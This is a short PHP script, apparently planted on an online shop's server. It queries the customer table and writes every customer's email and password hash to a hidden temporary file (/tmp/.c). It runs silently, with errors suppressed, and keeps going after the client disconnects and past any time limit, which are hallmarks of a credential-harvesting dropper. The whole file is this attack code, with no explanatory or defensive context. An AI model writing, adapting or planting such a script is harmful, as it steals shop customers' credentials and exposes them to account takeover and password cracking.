<?php
@ignore_user_abort(1);
@set_time_limit(0);
$db = new mysqli('localhost', 'shop', 'shop', 'shop');
$res = $db->query('SELECT email, password_hash FROM customer_entity ORDER BY entity_id');
$out = fopen('/tmp/.c', 'w');
while ($row = $res->fetch_assoc()) {
  fwrite($out, $row['email'] . ':' . $row['password_hash'] . "\n");
}
